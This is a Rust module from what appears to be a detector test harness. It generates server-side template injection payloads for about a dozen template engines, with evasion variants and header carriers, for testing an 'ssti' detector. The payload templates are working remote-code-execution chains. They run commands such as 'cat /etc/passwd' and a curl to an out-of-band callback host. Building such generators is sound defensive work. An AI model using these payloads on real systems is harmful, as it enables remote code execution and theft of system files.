//! Red-team server-side template injection, written apart from the detectors (held out in
//! spirit): a template engine's expression delimiters (Jinja2/Twig/Nunjucks `{{ }}` and
//! `{% %}`, Freemarker/Thymeleaf/JSP-EL `${ }` `#{ }` `*{ }`, ERB/EJS `<%= %>`, Velocity `#set`,
//! Smarty `{ }`, Razor `@( )`, Thymeleaf preprocessing `__${ }__`) × what the attacker reaches
//! (an arithmetic probe, the object graph up to `os`/`Runtime`/`child_process`, configuration
//! secrets) × how names are spelled (`|attr()`, `["__class__"]`, `\x5f` escapes, `~` joins) ×
//! whitespace and case inside the delimiters.

use crate::mutate::{join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamSsti;

const COMMANDS: &[&str] = &["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la", "curl x.oast.site"];

/// Python-side object-graph walks (Jinja2, Tornado, Mako) ending in a shell command.
fn python_chain(rng: &mut Rng, cmd: &str) -> (String, &'static str) {
    let dunder = |rng: &mut Rng, name: &str| -> (String, &'static str) {
        match rng.below(4) {
            0 => (format!(".{name}"), ""),
            1 => (format!("[\"{name}\"]"), "subscript"),
            2 => (format!("|attr(\"{}\")", name.replace('_', "\\x5f")), "attr-hex"),
            _ => (format!("|attr('{name}')"), "attr"),
        }
    };
    let root = *rng.pick(&[
        "''",
        "()",
        "[]",
        "request",
        "config",
        "self",
        "lipsum",
        "cycler",
        "joiner",
        "namespace",
        "url_for",
        "get_flashed_messages",
    ]);
    match rng.below(4) {
        0 => {
            let (a, s1) = dunder(rng, "__class__");
            let (b, _) = dunder(rng, "__mro__");
            let (c, _) = dunder(rng, "__subclasses__");
            (format!("{root}{a}{b}[1]{c}()[{}]('{cmd}',shell=True,stdout=-1).communicate()", rng.range(100, 450)), s1)
        }
        1 => {
            let (a, s1) = dunder(rng, "__init__");
            let (b, _) = dunder(rng, "__globals__");
            (format!("{root}{a}{b}.os.popen('{cmd}').read()"), s1)
        }
        2 => {
            let (b, s1) = dunder(rng, "__globals__");
            (format!("{root}{b}['__builtins__']['__import__']('os').popen('{cmd}').read()"), s1)
        }
        _ => (format!("self._TemplateReference__context.cycler.__init__.__globals__.os.system('{cmd}')"), ""),
    }
}

/// One engine's payload: the expression, its engine name.
fn engine_payload(rng: &mut Rng) -> (String, &'static str, &'static str) {
    let cmd = *rng.pick(COMMANDS);
    let a = rng.range(3, 99);
    let b = rng.range(3, 99);
    let sp = |rng: &mut Rng| if rng.chance(0.5) { " " } else { "" };
    let (s1, s2) = (sp(rng), sp(rng));
    match rng.below(14) {
        0 => (format!("{{{{{s1}{a}*{b}{s2}}}}}"), "jinja-probe", ""),
        1 => {
            let (chain, spell) = python_chain(rng, cmd);
            (format!("{{{{{s1}{chain}{s2}}}}}"), "jinja-rce", spell)
        }
        2 => (format!("{{%{s1}for x in ().__class__.__base__.__subclasses__(){s2}%}}{{%{s1}if \"warning\" in x.__name__{s2}%}}{{{{x()._module.__builtins__['__import__']('os').popen('{cmd}').read()}}}}{{%endif%}}{{%endfor%}}"), "jinja-loop", ""),
        3 => (format!("{{{{{s1}config.items(){s2}}}}}"), "jinja-config", ""),
        4 => (format!("{{{{['{cmd}']|filter('system')}}}}"), "twig", ""),
        5 => (format!("{{{{_self.env.registerUndefinedFilterCallback(\"exec\")}}}}{{{{_self.env.getFilter(\"{cmd}\")}}}}"), "twig", ""),
        6 => (format!("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{{s1}ex(\"{cmd}\"){s2}}}"), "freemarker", ""),
        7 => (format!("${{{s1}T(java.lang.Runtime).getRuntime().exec('{cmd}'){s2}}}"), "spel", ""),
        8 => (format!("__${{T(java.lang.Runtime).getRuntime().exec(\"{cmd}\")}}__::.x"), "thymeleaf-pre", ""),
        9 => (format!("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{cmd}\"))$x.waitFor()"), "velocity", ""),
        10 => (format!("<%={s1}`{cmd}`{s2}%>"), "erb", ""),
        11 => (format!("<%={s1}global.process.mainModule.require('child_process').execSync('{cmd}'){s2}%>"), "ejs", ""),
        12 => (format!("{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{cmd}')\")()}}}}"), "nunjucks", ""),
        _ => match rng.below(5) {
            0 => (format!("${{{a}*{b}}}"), "el-probe", ""),
            1 => (format!("#{{{a}*{b}}}"), "el-probe", ""),
            2 => (format!("{{php}}system('{cmd}');{{/php}}"), "smarty", ""),
            3 => (format!("@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {cmd}\"))"), "razor", ""),
            _ => (format!("${{self.module.cache.util.os.system(\"{cmd}\")}}"), "mako", ""),
        },
    }
}

impl Family for RedteamSsti {
    fn name(&self) -> &'static str {
        "redteam-ssti"
    }

    fn detector(&self) -> &'static str {
        "ssti"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (mut text, engine, spell) = engine_payload(rng);
        let wrap = match rng.below(5) {
            0 => {
                text = format!("Hello {text}!");
                "in-prose"
            }
            1 => {
                text = format!("{text}{}", *rng.pick(&["", "\n", " "]));
                ""
            }
            _ => "",
        };
        let (carrier, place) = match rng.below(8) {
            0 => (Carrier::Header("user-agent"), "in-user-agent"),
            1 => (Carrier::Header("referer"), "in-referer"),
            _ => (Carrier::Value, ""),
        };
        let (text, layer) = if place.is_empty() { transport_layer(rng, &text) } else { (text, "") };
        Variant { family: self.name(), mutation: join(&[engine, spell, wrap, place, layer]), payload: text, carrier }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&super::RedteamSsti, 300, 150);
    }
}
